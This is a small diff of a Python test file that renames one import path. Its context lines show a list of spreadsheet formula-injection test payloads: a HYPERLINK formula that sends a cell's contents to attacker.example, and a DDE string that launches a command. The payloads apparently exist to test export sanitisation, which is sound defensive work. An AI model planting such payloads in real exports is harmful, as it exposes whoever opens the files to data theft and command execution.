@@ -19,7 +19,7 @@ from assurance.national.models import Rollup
 from outcomes.choices import LegalBasis
 from outcomes.models import Indicator, PooledBudget, PriorityOutcome
 from tests.outcomes.conftest import load_values
-from tests.partners.access_cases import needs_assessment
+from tests.partnerships.access_cases import needs_assessment
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"detail")'
 ATTACKS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-cmd|' /C calc'!A0"]
